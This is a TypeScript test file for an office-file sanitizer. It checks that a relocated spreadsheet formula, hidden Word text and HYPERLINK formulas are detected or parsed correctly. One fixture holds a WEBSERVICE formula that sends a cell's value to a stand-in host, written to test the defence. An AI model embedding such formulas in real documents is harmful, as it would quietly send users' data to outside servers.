/** A part of an office file is what leads to it and what it begins with; the name it has in the ZIP says nothing. */
import { unzipSync, zipSync } from 'fflate'
import { expect, it } from 'vitest'
import { cleanOffice } from '../../src/media/child/cleanOffice.ts'
import { linksOfFormula } from '../../src/policy/gate/officeFormula.ts'
import { docxOf, relation, xlsxOf } from '../support/office.ts'

it('a sheet that lies among the parts of Word calculates all the same', async () => {
  const parts = unzipSync(xlsxOf({ cells: '<c r="A1"><f>_xlfn.WEBSERVICE("https://x.example/?"&amp;B1)</f></c>' }))
  const moved = Object.fromEntries(
    Object.entries(parts).map(([name, bytes]) => {
      if (name === 'xl/worksheets/sheet1.xml') return ['word/sheet1.xml', bytes]
      if (name !== 'xl/_rels/workbook.xml.rels') return [name, bytes]
      return [name, Buffer.from(Buffer.from(bytes).toString().replace('worksheets/sheet1.xml', '../word/sheet1.xml'))]
    }),
  )
  expect(await cleanOffice(Buffer.from(zipSync(moved)))).not.toHaveProperty('bytes')
})

it.each([
  ['styles', '<w:styles xmlns:w="w"><w:style w:styleId="A"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'],
  ['header', '<w:hdr xmlns:w="w"><w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>bí mật</w:t></w:r></w:p></w:hdr>'],
])('%s called numbering.xml hide nothing', async (kind, xml) => {
  const file = docxOf({ rels: relation('rId8', kind, 'numbering.xml'), more: { 'word/numbering.xml': xml } })
  expect(await cleanOffice(file)).toMatchObject({ fault: 'hidden' })
})

it.each([
  ['HYPERLINK(A1,T[HYPERLINK("https://moet.gov.vn")])', null],
  [`HYPERLINK(A1,"HYPERLINK(""https://moet.gov.vn"")")`, null],
  ['HYPERLINK( "https://moet.gov.vn" , "Bộ")', ['https://moet.gov.vn']],
  ['IF(A1,HYPERLINK("https://a.example"),HYPERLINK("#B2"))', ['https://a.example']],
  ['SUM(T[HYPERLINK("x")])', []],
] as const)('%s leads to %j', (formula, links) => expect(linksOfFormula(formula)).toEqual(links))
